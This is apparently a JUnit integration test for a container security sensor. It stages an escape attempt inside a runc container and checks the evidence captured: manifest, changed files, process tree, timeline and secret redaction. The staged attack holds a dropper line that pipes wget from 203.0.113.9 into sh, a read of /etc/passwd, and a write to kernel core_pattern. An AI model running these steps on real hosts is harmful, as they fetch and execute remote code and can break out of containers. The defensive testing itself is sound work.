package io.bulwark.sensor.evidence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import io.bulwark.contract.AlertDetail;
import io.bulwark.contract.AlertEnvelope;
import io.bulwark.contract.Json;
import io.bulwark.contract.Priority;
import io.bulwark.sensor.Sensor;
import io.bulwark.sensor.alert.AlertFactory;
import io.bulwark.sensor.alert.NodeIdentity;
import io.bulwark.sensor.enrich.ContainerResolver;
import io.bulwark.sensor.detect.Detector;
import io.bulwark.sensor.rules.LoadResult;
import io.bulwark.sensor.rules.RuleLoader;
import io.bulwark.sensor.testing.RuncContainer;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The whole path on a real runc container (plain directory rootfs): the real sensor decodes the
 * container's events into a timeline and the shipped rules; the CRITICAL core_pattern alert is
 * snapshotted on the decoder thread, as the fast path does before the freeze, and the capture is
 * completed in the background. Then the evidence is checked as a responder would use it.
 */
@Tag("containers")
@Timeout(180)
class EvidenceCaptureRuncTest {
    static final String AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    static final String DB_PASSWORD = "hunter2-correct-horse";
    static final String API_TOKEN = "tok-1234-abcd";
    static final String DROPPER = "#!/bin/sh\n# dropped by the attacker before the attempt\nwget -q -O- http://203.0.113.9/x | sh\n";

    @TempDir
    Path spool;

    static LoadResult rules() throws IOException {
        try (InputStream in = EvidenceCaptureRuncTest.class.getClassLoader().getResourceAsStream("rules/bulwark_escape_rules.yaml")) {
            assertNotNull(in, "the shipped ruleset is on the class path");
            LoadResult r = new RuleLoader().loadSources(List.of(new RuleLoader.Source("bulwark_escape_rules.yaml",
                    new String(in.readAllBytes(), StandardCharsets.UTF_8))));
            assertTrue(r.errors().isEmpty(), () -> "ruleset errors: " + r.errors());
            return r;
        }
    }

    @Test
    void escapeAttemptLeavesCompleteEvidenceWithTheDropperTheOffenderAndTheMinutesBefore() throws Exception {
        LoadResult rules = rules();
        ContainerTimeline timeline = new ContainerTimeline(ContainerTimeline.Limits.defaults());
        AlertDetail.Node node = NodeIdentity.detect();
        List<String> artifactsSeenWithoutManifest = new CopyOnWriteArrayList<>();
        List<String> manifestEarly = new CopyOnWriteArrayList<>();
        List<EvidenceCapture.Snapshot> snapshots = new CopyOnWriteArrayList<>();
        CompletableFuture<Path> done = new CompletableFuture<>();
        long[] alertSeenNs = {0};
        String[] containerId = {null};

        try (RuncContainer c = RuncContainer.builder().start()) {
            containerId[0] = c.id();
            Sensor sensor = null;
            EvidenceCapture[] capture = {null};
            try {
                Detector detector = new Detector(rules.engine(), new AlertFactory(node, "local", "none"), TimeUnit.SECONDS.toNanos(60),
                        List.of((AlertEnvelope a) -> {
                            AlertDetail d = a.detail();
                            // the fast path: CRITICAL in our container → snapshot on this (the decoder) thread, then the rest in the background
                            if (d.container() != null && d.container().id().equals(containerId[0])
                                    && Priority.parse(d.priority()).atLeast(Priority.CRITICAL) && "core-pattern".equals(d.vector())
                                    && snapshots.isEmpty()) {
                                alertSeenNs[0] = System.nanoTime();
                                EvidenceCapture.Snapshot s = capture[0].snapshot(d);
                                snapshots.add(s);
                                capture[0].complete(s).whenComplete((p, e) -> {
                                    if (e != null) {
                                        done.completeExceptionally(e);
                                    } else {
                                        done.complete(p);
                                    }
                                });
                            }
                        }));
                sensor = Sensor.start(Sensor.Options.of(io.bulwark.sensor.enrich.Containers.of(new ContainerResolver()), new io.bulwark.sensor.EventSink() {
                    @Override
                    public Object accept(io.bulwark.contract.SensorEvent event) {
                        return detector.onEvent(event);
                    }

                    @Override
                    public void repeat(io.bulwark.contract.SensorEvent event, Object state) {
                        detector.onRepeat(event, state);
                    }
                }));
                sensor.timeline(timeline);
                capture[0] = new EvidenceCapture(EvidenceCapture.Options.defaults(spool), sensor.processes(), timeline, node);
                capture[0].afterEachArtifact(name -> {
                    artifactsSeenWithoutManifest.add(name);
                    try (Stream<Path> s = Files.walk(spool).filter(p -> !p.getFileName().toString().equals("runc-exec.log"))) {
                        s.filter(p -> p.getFileName().toString().equals("manifest.json")).forEach(p -> manifestEarly.add(p + " after " + name));
                    } catch (IOException e) {
                        manifestEarly.add("cannot list: " + e);
                    }
                });

                // before the attempt: the attacker drops a script and looks around
                long beforeNs = System.currentTimeMillis() * 1_000_000L;
                assertEquals(0, c.exec("sh", "-c", "printf '%s' '" + DROPPER.replace("'", "'\\''") + "' > /tmp/dropper.sh && chmod +x /tmp/dropper.sh").exitCode());
                assertEquals(0, c.exec("cat", "/etc/passwd").exitCode());
                Thread.sleep(300);
                // the attempt: a shell with secrets in its environment, a child, and a write to core_pattern
                Process attempt = new ProcessBuilder("runc", "exec", "-d", "--env", "AWS_SECRET_ACCESS_KEY=" + AWS_SECRET,
                        "--env", "DB_PASSWORD=" + DB_PASSWORD, "--env", "API_TOKEN=" + API_TOKEN, "--env", "GREETING=hello",
                        c.id(), "sh", "-c", "sleep 600 & sleep 0.3; echo '|/tmp/dropper.sh' > /proc/sys/kernel/core_pattern; wait")
                        // a file, not a pipe: the detached shell keeps its output open for as long as it runs
                        .redirectErrorStream(true).redirectOutput(spool.resolve("runc-exec.log").toFile()).start();
                assertTrue(attempt.waitFor(30, TimeUnit.SECONDS) && attempt.exitValue() == 0,
                        () -> "runc exec -d: " + readQuietly(spool.resolve("runc-exec.log")));

                Path dir;
                try {
                    dir = done.get(60, TimeUnit.SECONDS);
                } catch (java.util.concurrent.TimeoutException e) {
                    fail("no core-pattern alert with evidence within 60 s; sensor counters " + sensor.counters()
                            + "; timeline entries " + timeline.copy(c.id(), Long.MAX_VALUE / 2).size());
                    return;
                }
                long alertToManifestMs = (System.nanoTime() - alertSeenNs[0]) / 1_000_000;
                EvidenceCapture.Snapshot snap = snapshots.get(0);
                System.out.printf("evidence: snapshot %.2f ms (%d timeline entries, %d processes), alert to manifest %d ms%n",
                        snap.costNanos() / 1e6, snap.timelineEntries(), snap.pids().size(), alertToManifestMs);

                // manifest: last, complete, every hash and size right, nothing unlisted
                assertTrue(manifestEarly.isEmpty(), () -> "a manifest existed before the artifacts were complete: " + manifestEarly);
                JsonNode manifest = Json.mapper().readTree(dir.resolve("manifest.json").toFile());
                assertEquals(EvidenceCapture.FORMAT, manifest.path("format").asText());
                assertEquals(snap.incident(), manifest.path("incident").asText());
                assertEquals(dir, spool.resolve(snap.incident()));
                assertEquals(c.id(), manifest.path("container").path("id").asText());
                assertEquals(artifactsSeenWithoutManifest.size(), manifest.path("artifacts").size());
                Set<String> listed = new TreeSet<>();
                for (JsonNode a : manifest.path("artifacts")) {
                    Path f = dir.resolve(a.path("name").asText());
                    assertTrue(Files.isRegularFile(f), "artifact on disk: " + f);
                    assertEquals(a.path("size").asLong(), Files.size(f), "size of " + f);
                    assertEquals(a.path("sha256").asText(), sha256(f), "sha256 of " + f);
                    assertFalse(a.path("producer").asText().isEmpty());
                    assertFalse(a.path("captured_at").asText().isEmpty());
                    listed.add(a.path("name").asText());
                }
                Set<String> onDisk;
                try (Stream<Path> s = Files.walk(dir)) {
                    onDisk = s.filter(Files::isRegularFile).map(p -> dir.relativize(p).toString()).filter(n -> !n.equals("manifest.json"))
                            .collect(Collectors.toCollection(TreeSet::new));
                }
                assertEquals(onDisk, listed, "every file in the capture is in the manifest");
                assertTrue(manifest.path("errors").isEmpty(), () -> "capture errors: " + manifest.path("errors"));
                assertEquals("auditd not running", manifest.path("notes").path("audit").asText());

                // the dropped file is in the changed files (plain directory rootfs: by time), the image's files are not
                JsonNode idx = Json.mapper().readTree(dir.resolve("changed-files.json").toFile());
                assertEquals("mtime-since-start", idx.path("method").asText());
                assertFalse(idx.path("truncated").asBoolean());
                Path extract = Files.createTempDirectory(spool, "x");
                assertTrue(listed.contains("changed-files.tar.zst"), () -> "zstd-compressed changed files: " + listed);
                assertTrue(Files.isExecutable(Path.of("/usr/bin/zstd")), "GNU tar reads .tar.zst through zstd: apt-get install zstd");
                Process tar = new ProcessBuilder("tar", "--zstd", "-xf", dir.resolve("changed-files.tar.zst").toString(), "-C", extract.toString())
                        .redirectErrorStream(true).start();
                String tarOut = new String(tar.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
                assertEquals(0, tar.waitFor(), () -> "GNU tar reads the archive: " + tarOut);
                assertEquals(DROPPER, Files.readString(extract.resolve("tmp/dropper.sh")));
                assertFalse(Files.exists(extract.resolve("bin/busybox")), "unchanged image files are not captured");

                // the offender, its child and its ancestry are in the process tree
                JsonNode tree = Json.mapper().readTree(dir.resolve("process-tree.json").toFile());
                int offender = tree.path("offender").asInt();
                assertEquals(snap.pids().get(0), offender);
                JsonNode offenderNode = byPid(tree, offender);
                assertEquals("sh", offenderNode.path("comm").asText());
                assertTrue(offenderNode.path("in_container").asBoolean());
                assertTrue(stream(tree.path("processes")).anyMatch(p -> p.path("ppid").asInt() == offender
                        && roles(p).contains("descendant") && p.path("argv").toString().contains("600")), () -> "the sleep child: " + tree);
                assertTrue(tree.path("ancestry").size() >= 1);

                // the timeline: the offender's open of core_pattern, the alert, and events from before the attempt
                List<JsonNode> lines = new ArrayList<>();
                for (String l : Files.readAllLines(dir.resolve("timeline.jsonl"))) {
                    lines.add(Json.mapper().readTree(l));
                }
                long alertNs = lines.stream().filter(l -> l.path("kind").asText().equals("alert")).findFirst()
                        .orElseThrow(() -> new AssertionError("no alert in the timeline")).path("time_ns").asLong();
                assertTrue(lines.stream().anyMatch(l -> l.path("pid").asInt() == offender && l.path("kind").asText().equals("event")
                        && l.path("args").toString().contains("core_pattern")), "the offender's attempt is in the timeline");
                assertTrue(lines.stream().anyMatch(l -> l.path("time_ns").asLong() < alertNs - 200_000_000L && l.path("time_ns").asLong() >= beforeNs
                        && l.path("syscall").asText().equals("execve") && l.path("args").toString().contains("cat")),
                        () -> "the cat before the attempt is in the timeline: " + lines);

                // the offender's /proc facts: environment redacted, executable hashed, capabilities decoded
                JsonNode facts = Json.mapper().readTree(dir.resolve("proc/" + offender + "/facts.json").toFile());
                List<String> env = stream(facts.path("environ")).map(JsonNode::asText).toList();
                assertTrue(env.contains("AWS_SECRET_ACCESS_KEY=[REDACTED]"), () -> "env: " + env);
                assertTrue(env.contains("DB_PASSWORD=[REDACTED]"), () -> "env: " + env);
                assertTrue(env.contains("API_TOKEN=[REDACTED]"), () -> "env: " + env);
                assertTrue(env.contains("GREETING=hello"), () -> "ordinary values stay: " + env);
                assertEquals(sha256(Path.of("/bin/busybox")), facts.path("exe_sha256").asText(), "the busybox the shell runs");
                assertTrue(stream(facts.path("capabilities").path("effective").path("names")).anyMatch(n -> n.asText().equals("CAP_KILL")));
                assertTrue(Files.readString(dir.resolve("proc/" + offender + "/status")).contains("Name:\tsh"));
                assertTrue(Files.exists(dir.resolve("proc/" + offender + "/mountinfo")));
                for (Path f : Files.walk(dir).filter(Files::isRegularFile).toList()) {
                    String text = new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1);
                    for (String secret : List.of(AWS_SECRET, DB_PASSWORD, API_TOKEN)) {
                        assertFalse(text.contains(secret), "secret " + secret.substring(0, 4) + "… leaked into " + f);
                    }
                }
                assertTrue(Files.exists(dir.resolve("net/connections.json")));
                assertTrue(Files.exists(dir.resolve("host/processes-since-attempt.json")));
                assertTrue(Files.exists(dir.resolve("runtime/config.json")));

                // a second capture of the same incident: its own directory and manifest, the first untouched
                String firstManifest = sha256(dir.resolve("manifest.json"));
                Path second = capture[0].complete(capture[0].snapshot(snap.alert)).toCompletableFuture().get(60, TimeUnit.SECONDS);
                assertEquals(dir.resolve("capture-2"), second);
                assertEquals("capture-2", Json.mapper().readTree(second.resolve("manifest.json").toFile()).path("part").asText());
                assertEquals(firstManifest, sha256(dir.resolve("manifest.json")));

                assertTrue(alertToManifestMs < 5_000, "alert to manifest in " + alertToManifestMs + " ms");
                String keep = System.getProperty("bulwark.evidence.sample");
                if (keep != null) { // docs/evidence.md's sample: -Dbulwark.evidence.sample=DIR keeps a copy of the capture
                    Files.createDirectories(Path.of(keep));
                    new ProcessBuilder("cp", "-a", dir.toString(), keep).inheritIO().start().waitFor();
                }
            } finally {
                if (capture[0] != null) {
                    capture[0].close();
                }
                if (sensor != null) {
                    sensor.close();
                }
            }
        }
    }

    static String readQuietly(Path f) {
        try {
            return Files.readString(f);
        } catch (IOException e) {
            return e.toString();
        }
    }

    static JsonNode byPid(JsonNode tree, int pid) {
        return stream(tree.path("processes")).filter(p -> p.path("pid").asInt() == pid).findFirst()
                .orElseThrow(() -> new AssertionError("pid " + pid + " not in the tree: " + tree));
    }

    static List<String> roles(JsonNode p) {
        return stream(p.path("roles")).map(JsonNode::asText).toList();
    }

    static Stream<JsonNode> stream(JsonNode array) {
        List<JsonNode> out = new ArrayList<>();
        array.forEach(out::add);
        return out.stream();
    }

    static String sha256(Path f) throws Exception {
        MessageDigest sha = MessageDigest.getInstance("SHA-256");
        try (InputStream in = Files.newInputStream(f)) {
            byte[] buf = new byte[1 << 16];
            int n;
            while ((n = in.read(buf)) > 0) {
                sha.update(buf, 0, n);
            }
        }
        return HexFormat.of().formatHex(sha.digest());
    }
}
